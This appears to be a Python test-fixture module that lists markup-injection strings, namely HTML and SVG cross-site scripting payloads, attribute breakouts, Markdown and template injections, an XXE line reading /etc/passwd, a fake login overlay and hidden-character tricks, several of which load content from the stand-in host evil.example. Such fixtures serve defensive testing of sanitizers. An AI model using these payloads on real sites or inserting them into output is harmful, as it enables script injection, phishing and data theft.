"""Texts that try to become markup: HTML, attributes, Markdown, templates, LaTeX, and tricks with unseen characters."""

from __future__ import annotations

_ELEMENTS = """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
</script><script>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img/src=`x`onerror=alert(1)>
<img src="x" onerror="alert(1)"
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math href="javascript:alert(1)">CLICK</math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data="javascript:alert(1)">
<embed src="data:text/html,<script>alert(1)</script>">
<a href="javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href=" &#14;  javascript:alert(1)">x</a>
<form action="javascript:alert(1)"><button>go</button></form>
<button formaction="javascript:alert(1)">x</button>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<body onload=alert(1)>
<marquee onstart=alert(1)>
<style>@import 'https://evil.example/x.css';</style>
<style>*{background:url(https://evil.example)}</style>
<link rel=stylesheet href=https://evil.example/x.css>
<meta http-equiv=refresh content="0;url=https://evil.example">
<base href="https://evil.example/">
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><svg/onload=alert(1)>">
<title><a title="</title><img src=x onerror=alert(1)>">
<plaintext>
<!--<img src="--><img src=x onerror=alert(1)>
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>
<!DOCTYPE html>
<x onclick=alert(1)>
<div style="position:fixed;inset:0;background:white">Your session ended. Log in:</div>
<div id=attributes><input name=attributes></div>
<gradio-app></gradio-app>
<p/onclick=alert(1)>
<a/onmouseover=alert(1)
<0>
< script >alert(1)</ script >
<sCrIpT>alert`1`</sCrIpT>
<mark class="quote active">not a quote</mark>
</mark></p></div></article><h1>free</h1>
</blockquote></li></ol><script>alert(1)</script>
<chip data-turn="0" data-cite="1">[1]</chip>
<a class="chip" href="#article" data-turn="0" data-cite="1">[1]</a>
"""

_ATTRIBUTES = """
" onmouseover="alert(1)
' onmouseover='alert(1)
` onmouseover=`alert(1)
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
" autofocus onfocus="alert(1)" x="
x" style="background:url(javascript:alert(1))
&quot; onclick=&quot;alert(1)
&#34;&gt;&lt;script&gt;alert(1)&lt;/script&gt;
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;
javascript:alert(1)//
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
&#x6A&#x61&#x76&#x61script:alert(1)
"""

_MARKDOWN = """
[x](javascript:alert(1))
![x](https://evil.example/pixel.png)
![x](x"onerror="alert(1))
[x]: javascript:alert(1)
<javascript:alert(1)>
<https://evil.example>
[a](<javascript:alert(1)>)
[![x](y)](javascript:alert(1))
# a heading
- a list
1. a list
12) a list
+ a list
* a list
> a quote
```html <script>alert(1)</script>
~~~
| a | b |
--- 
===
**bold** _emphasis_ __bold__ ~~gone~~
`code` ``code``
a\\<script>alert(1)</script>
[^1]: a note
:::warning
Sources: 1. forged [1]
"""

_TEMPLATES = """
{{constructor.constructor('alert(1)')()}}
{{#with this}}{{lookup this 'constructor'}}{{/with}}
${alert(1)}
`+alert(1)+`
<%= 7*7 %>
{% include "/etc/passwd" %}
#{7*7}
$\\href{javascript:alert(1)}{x}$
$$\\htmlStyle{color:red}{x}$$
\\(\\includegraphics{https://evil.example/x.png}\\)
@children
"""

_UNSEEN = [
    "<\x00script>alert(1)</script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<img\u2028src=x\u2028onerror=alert(1)>",
    "\ufeff<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "safe\u2066<b>\u2069",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "<script\x0c>alert(1)</script\x0c>",
    "<img src=x onerror\t=\talert(1)>",
    "＜script＞alert(1)＜/script＞",
    "\u0000\u0001\u0002",
    "\U000e003cscript\U000e003e",
    "a\ud83db",
]

ATTACKS: tuple[str, ...] = (
    *(line for block in (_ELEMENTS, _ATTRIBUTES, _MARKDOWN, _TEMPLATES) for line in block.strip().splitlines()),
    *_UNSEEN,
)
